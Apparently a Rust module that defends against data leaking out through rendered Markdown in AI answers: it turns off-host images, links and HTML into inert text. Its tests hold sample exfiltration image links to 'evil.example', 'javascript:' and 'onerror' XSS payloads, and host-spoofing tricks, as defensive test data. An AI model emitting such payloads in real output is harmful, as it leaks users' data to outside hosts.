//! What an answer would have a screen fetch or run: links and pictures elsewhere, and HTML.
//!
//! Where such an answer is shown as Markdown, a picture's address alone carries data out as soon as it is drawn. What is not
//! allowed becomes text that a person can read.

use std::sync::LazyLock;

use regex::{Captures, Regex};

use super::hit::Hit;
use super::pattern::pattern;

/// The category of these hits.
pub const MARKUP: &str = "markup";

/// Elements that show text and fetch nothing. They may stand without attributes.
const PLAIN: &[&str] = &[
    "b",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

/// A picture or a link; a definition of one; an address by itself; a tag, or what begins like one.
static PLACE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?x)
        (?P<picture>!)?\[(?P<label>[^\[\]]*)\]\(\s*(?P<target><[^<>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?\s*\)
        |(?m:^[\ ]{0,3})\[(?P<name>[^\[\]]+)\]:\s*(?P<defined>\S+)[^\n]*
        |<?(?P<bare>(?i:[a-z][a-z0-9+.\-]{1,20}://|www\.|mailto:|javascript:|data:)[^\s<>"`\]]+)>?
        |(?P<tag></?[A-Za-z][^<>]*>?|<[!?][^<>]*>?)"#,
    )
});

static FENCE: LazyLock<Regex> = LazyLock::new(|| pattern(r"^(```+|~~~+)[^`]*$"));

/// Finds links, pictures and HTML that lead elsewhere than to these hosts and what is below them. What stands in a block of
/// code is shown as it is, and left alone.
pub fn find(text: &str, allowed: &[String]) -> Vec<Hit> {
    let mut hits = Vec::new();
    walk(text, allowed, |hit, _| hits.push(hit));
    hits
}

/// Above this a place leads elsewhere, and is no mere address in words.
const CERTAIN: f64 = 0.5;

/// How often what was made words is looked at again: each time takes a place that stood around another one.
const MOST_LOOKS: usize = 8;

/// A text in which these are words: a link's with its address behind it.
pub fn sanitised(text: &str, allowed: &[String]) -> String {
    let mut safe = in_words(text, allowed);
    for _ in 0..MOST_LOOKS {
        // A link that stood within the address of another one may leave an address that is one by now.
        if find(&safe, allowed).iter().all(|hit| hit.score <= CERTAIN) {
            break;
        }
        safe = in_words(&safe, allowed);
    }
    safe
}

fn in_words(text: &str, allowed: &[String]) -> String {
    let (mut safe, mut done) = (String::with_capacity(text.len()), 0);
    walk(text, allowed, |hit, instead| {
        safe.push_str(text.get(done..hit.span.start).unwrap_or_default());
        // What stood in front of a link must not begin a tag with its words.
        if safe.ends_with('<') && instead.starts_with(|c: char| c.is_ascii_alphabetic() || "/!?".contains(c))
        {
            safe.pop();
            safe.push_str("&lt;");
        }
        safe.push_str(&instead);
        done = hit.span.end;
    });
    safe.push_str(text.get(done..).unwrap_or_default());
    safe
}

fn walk(text: &str, allowed: &[String], mut found: impl FnMut(Hit, String)) {
    for (start, open) in open_parts(text) {
        let mut at = 0;
        while let Some(place) = PLACE.captures_at(open, at) {
            let Some(whole) = place.get(0) else { break };
            // Of what begins a tag only the first character is taken, and what may stay is looked into: what stands within
            // is a place of its own.
            let first =
                open.get(whole.start()..).and_then(|rest| rest.chars().next()).map_or(1, char::len_utf8);
            let judged = judge(&place, allowed);
            let holds = place.name("bare").is_none() && judged.is_none();
            let end = if place.name("tag").is_some() || holds { whole.start() + first } else { whole.end() };
            if let Some((score, what, instead)) = judged {
                found(Hit::new(MARKUP, score, start + whole.start()..start + end, what), instead);
            }
            at = end.max(at + 1);
            while !open.is_char_boundary(at) && at < open.len() {
                at += 1;
            }
            if at > open.len() {
                break;
            }
        }
    }
}

/// The parts that are no blocks of code, each with where it begins.
fn open_parts(text: &str) -> Vec<(usize, &str)> {
    let (mut parts, mut begin, mut at, mut fence) = (Vec::new(), 0, 0, None::<&str>);
    for line in text.split_inclusive('\n') {
        let bare = line.trim_end();
        match fence {
            None => {
                if let Some(mark) = FENCE.captures(bare).and_then(|found| found.get(1)) {
                    parts.push((begin, text.get(begin..at).unwrap_or_default()));
                    fence = Some(mark.as_str());
                }
            }
            Some(mark) if bare.starts_with(mark) && bare.chars().all(|c| mark.starts_with(c)) => {
                (fence, begin) = (None, at + line.len());
            }
            Some(_) => {}
        }
        at += line.len();
    }
    if fence.is_none() {
        parts.push((begin, text.get(begin..).unwrap_or_default()));
    }
    parts
}

/// What is wrong with a place, and what stands there instead; none where it may stay.
fn judge(place: &Captures<'_>, allowed: &[String]) -> Option<(f64, &'static str, String)> {
    let part = |name| place.name(name).map(|part| part.as_str());
    if let Some(tag) = part("tag") {
        let name = tag.trim_start_matches(['<', '/']).trim_end_matches(['>', '/', ' ']).to_ascii_lowercase();
        return (!PLAIN.contains(&name.as_str())).then(|| (0.7, "HTML", "&lt;".to_owned()));
    }
    if let Some(target) = part("target") {
        let target = target.trim_matches(['<', '>']);
        let label = sanitised(part("label").unwrap_or_default(), allowed);
        return (!may_lead(target, allowed)).then(|| match part("picture") {
            Some(_) => (0.9, "a picture from elsewhere", format!("{label} ({})", shown(target))),
            None => (0.6, "a link to elsewhere", format!("{label} ({})", shown(target))),
        });
    }
    if let Some(target) = part("defined") {
        let target = target.trim_matches(['<', '>']);
        let name = sanitised(part("name").unwrap_or_default(), allowed);
        return (!may_lead(target, allowed))
            .then(|| (0.6, "a link to elsewhere", format!("{name}: {}", shown(target))));
    }
    let bare = part("bare")?;
    (!may_lead(bare, allowed)).then(|| (0.5, "an address elsewhere", shown(bare)))
}

/// Whether a link may lead there: within what is shown, or to a host that is allowed.
fn may_lead(target: &str, allowed: &[String]) -> bool {
    let target = target.trim().to_ascii_lowercase();
    // Browsers read a backslash as a slash, and no line breaks.
    if target.contains(['\\', '\n', '\r', '\t', '&']) && !target.starts_with("http") {
        return false;
    }
    let after = match (target.split_once(':'), target.strip_prefix("//")) {
        (_, Some(rest)) => rest,
        (Some(("http" | "https", rest)), _) => rest.trim_start_matches(['/', '\\']),
        // A relative path has no scheme: a colon behind a slash, a question mark or a number sign is none.
        (Some((scheme, _)), _) if !scheme.contains(['/', '?', '#']) => return false,
        _ if target.starts_with("www.") => target.as_str(),
        _ => return true,
    };
    let authority = after.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    let host = host.split(':').next().unwrap_or_default().trim_end_matches('.');
    let is_below = |allowed: &String| {
        let allowed = allowed.to_ascii_lowercase();
        host == allowed || host.strip_suffix(allowed.as_str()).is_some_and(|rest| rest.ends_with('.'))
    };
    !host.is_empty() && allowed.iter().any(is_below)
}

/// An address as code, which nothing makes a link of. Where a mark in front of it opens the code otherwise, what is in it is no
/// link or picture either.
fn shown(target: &str) -> String {
    let written = |sign| match sign {
        '`' => "%60".to_owned(),
        '[' => "%5B".to_owned(),
        ']' => "%5D".to_owned(),
        '<' => "%3C".to_owned(),
        '>' => "%3E".to_owned(),
        other => other.to_string(),
    };
    format!("`{}`", target.chars().map(written).collect::<String>())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_leads_elsewhere_becomes_words() {
        let allowed = ["shop.example".to_owned()];
        for (text, expected) in [
            ("plain *text* with `code`", "plain *text* with `code`"),
            ("![x](https://evil.example/p?d=1)", "x (`https://evil.example/p?d=1`)"),
            ("![x](https://shop.example/p.png)", "![x](https://shop.example/p.png)"),
            ("[x](https://cdn.shop.example/a)", "[x](https://cdn.shop.example/a)"),
            ("[x](https://shop.example.evil.example/a)", "x (`https://shop.example.evil.example/a`)"),
            ("[x](https://shop.example@evil.example/a)", "x (`https://shop.example@evil.example/a`)"),
            ("[x](//evil.example \"t\")", "x (`//evil.example`)"),
            ("[x](javascript:alert(1))", "x (`javascript:alert(1)`)"),
            ("[x](docs/a.md#b) [y](#c)", "[x](docs/a.md#b) [y](#c)"),
            ("![x][1]\n\n[1]: https://evil.example/p", "![x][1]\n\n1: `https://evil.example/p`"),
            ("see https://evil.example/a", "see `https://evil.example/a`"),
            ("see <https://evil.example/a>", "see `https://evil.example/a`"),
            ("a<br>b <b>c</b>", "a<br>b <b>c</b>"),
            ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
            ("<![x](https://evil.example)", "&lt;x (`https://evil.example`)"),
            ("<[b](//evil.example)", "&lt;b (`//evil.example`)"),
            ("[<img src=x>](#a)", "[&lt;img src=x>](#a)"),
            ("[<img src=x>](//evil.example)", "&lt;img src=x> (`//evil.example`)"),
            ("[c](![a](https://evil.example/p))", "c (`!%5Ba%5D(https://evil.example/p)`)"),
            ("`[c](![a](https://evil.example/p))", "`c (`!%5Ba%5D(https://evil.example/p)`)"),
            ("<b onclick=x>", "&lt;b onclick=x>"),
            ("<script", "&lt;script"),
            ("```\n![x](https://evil.example)\n```\n", "```\n![x](https://evil.example)\n```\n"),
            ("<!--\n```\n-->\n![x](https://evil.example)", "&lt;!--\n```\n-->\n![x](https://evil.example)"),
        ] {
            assert_eq!(sanitised(text, &allowed), expected, "{text}");
        }
    }

    proptest! {
        #[test]
        fn no_place_is_left(parts in prop::collection::vec(prop_oneof![
            Just("![a](https://evil.example/p)".to_owned()), Just("[b](//evil.example)".to_owned()), Just("<img src=x>".to_owned()),
            Just("<".to_owned()), Just("[c".to_owned()), Just("](".to_owned()), Just(")".to_owned()), "[a-z ]{0,4}",
        ], 0..8)) {
            let safe = sanitised(&parts.concat(), &[]);
            let left: Vec<_> = find(&safe, &[]).into_iter().filter(|hit| hit.score > CERTAIN).collect();
            prop_assert!(left.is_empty(), "{safe}: {left:?}");
        }
    }
}
